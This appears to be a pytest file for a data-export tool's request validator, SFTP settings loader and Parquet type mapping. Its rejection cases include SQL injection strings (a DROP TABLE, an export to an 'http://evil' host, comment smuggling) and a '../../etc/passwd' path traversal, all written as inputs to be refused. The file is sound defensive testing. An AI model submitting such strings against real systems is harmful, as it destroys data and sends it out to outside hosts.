"""SENDFILE's request checks and settings file, without processes: what is accepted, and what each refusal says."""

from __future__ import annotations

import datetime as dt
import re

import pyarrow as pa
import pytest

from redpss.core.paths import InstancePaths
from redpss.sendfile.export import arrow_type
from redpss.sendfile.request import FileRequest, RequestInvalid, check_where, parse_request
from redpss.sendfile.targets import TargetError, load_settings, target

NOW = dt.datetime(2026, 3, 1, 12, 30, 5)


def test_names_are_quoted_and_the_defaults_filled_in() -> None:
    request = parse_request({"source": 'app1."Orders 2026"', "to": "a@x.example, b@x.example"}, NOW)
    assert (request.schema_name, request.object_name) == ("APP1", "Orders 2026")
    assert request.query() == 'SELECT * FROM "APP1"."Orders 2026"'
    assert request.to == ("a@x.example", "b@x.example")
    assert request.format == "CSV" and request.file_name == "export_20260301_123005.csv"
    plain = parse_request({"source": "app1.v_orders", "sftp": "partner", "format": "parquet", "where": "ID > 3"}, NOW)
    assert plain.file_name == "v_orders_20260301_123005.parquet"
    assert plain.query() == 'SELECT * FROM "APP1"."V_ORDERS" WHERE (ID > 3)'
    assert FileRequest.from_json(plain.to_json()) == plain


@pytest.mark.parametrize(
    "condition",
    [
        "NAME = 'it''s ok; really'",  # a ; inside a string literal is data
        "(A = 1 OR B = 2) AND C IN (SELECT X FROM Y)",
        '"Weird)Name" = 1',
        "NAME LIKE '%--%'",
    ],
)
def test_conditions_that_only_narrow_the_rows_are_kept(condition: str) -> None:
    assert check_where(condition) == condition


@pytest.mark.parametrize(
    ("condition", "reason"),
    [
        ("1=1; DROP TABLE X", 'holds ";"'),
        ("1=1) INTO CSV AT 'http://evil' FILE 'x.csv' --", "closes a parenthesis never opened"),
        ("(1=1", 'a "(" is never closed'),
        ("NAME = 'open", "string or name is never closed"),
        ("1=1 /* hidden */", "holds a comment"),
        ("1=1 -- rest", "holds a comment"),
    ],
)
def test_conditions_that_could_change_the_statement_are_refused(condition: str, reason: str) -> None:
    with pytest.raises(RequestInvalid, match=re.escape(reason)):
        check_where(condition)


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"to": "a@x.example"}, '"source" is missing'),
        ({"source": "A.B.C", "to": "a@x.example"}, "must be SCHEMA.NAME"),
        ({"source": "A.1B", "to": "a@x.example"}, "is not a name"),
        ({"source": "A.B"}, "name exactly one destination"),
        ({"source": "A.B", "sftp": "../x"}, "is not a target name"),
        ({"source": "A.B", "to": "a@x.example", "file_name": "../../etc/passwd"}, '"file_name"'),
        ({"source": "A.B", "to": "a@x.example", "file_name": ".hidden"}, '"file_name"'),
        ({"source": "A.B", "to": "a@x.example", "column_names": "yes"}, '"column_names" must be true or false'),
        ({"source": "A.B", "to": "a@x.example", "key": "run 1"}, '"key" must be 1 to 128 letters'),
        ({"source": "A.B", "to": "a@x.example", "key": 17}, '"key" must be 1 to 128 letters'),
    ],
)
def test_bad_requests_name_the_field(fields: dict[str, object], reason: str) -> None:
    with pytest.raises(RequestInvalid, match=re.escape(reason)):
        parse_request(fields, NOW)


def test_parquet_types_follow_the_column_metadata() -> None:
    assert arrow_type({"type": "DECIMAL", "precision": 18, "scale": 0}) == pa.int64()
    assert arrow_type({"type": "DECIMAL", "precision": 36, "scale": 0}) == pa.decimal128(36, 0)
    assert arrow_type({"type": "DECIMAL", "precision": 12, "scale": 2}) == pa.decimal128(12, 2)
    assert arrow_type({"type": "DOUBLE"}) == pa.float64()
    assert arrow_type({"type": "BOOLEAN"}) == pa.bool_()
    assert arrow_type({"type": "DATE"}) == pa.date32()
    assert arrow_type({"type": "TIMESTAMP"}) == pa.timestamp("us")
    assert arrow_type({"type": "VARCHAR", "size": 10}) == pa.string()
    assert arrow_type({"type": "HASHTYPE"}) == pa.string()


def test_targets_file(instance: InstancePaths) -> None:
    settings = load_settings(instance)  # no file: no targets, the default mail limit
    assert settings.targets == {} and settings.mail_max_bytes == 20 * 1024 * 1024
    (instance.etc / "sendfile.conf").write_text(
        "[mail]\nmax_mb = 5\n\n[target partner]\nhost = sftp.example\nuser = u\nkey = etc/ssh/k\nfolder = /in/\n"
    )
    settings = load_settings(instance)
    partner = target(settings, "partner")
    assert (partner.port, partner.key, partner.folder) == (22, instance.home / "etc/ssh/k", "/in")
    assert partner.timeout == 120.0  # seconds an upload may make no progress
    assert settings.mail_max_bytes == 5 * 1024 * 1024
    with pytest.raises(TargetError, match=re.escape("'other' is not defined in etc/sendfile.conf (defined: partner)")):
        target(settings, "other")
    for text, reason in (
        ("[mail]\nmax_mb = 30\n", "at most 25"),
        ("[target p]\nhost = h\nuser = u\nkey = k\nfolder = in\n", "must be an absolute remote path"),
        ("[target p]\nhost = h\nuser = u\nfolder = /in\n", "missing key"),
        ("[target p]\nhost = h\nuser = u\nkey = k\nfolder = /in\npassword = x\n", "unknown key(s) password"),
        ("[targets]\n", "[targets] is not known"),
        ("[target p]\nhost = h\nuser = u\nkey = k\nfolder = /in\ntimeout = 0\n", "timeout = '0': seconds above 0"),
    ):
        (instance.etc / "sendfile.conf").write_text(text)
        with pytest.raises(TargetError, match=re.escape(reason)):
            load_settings(instance)
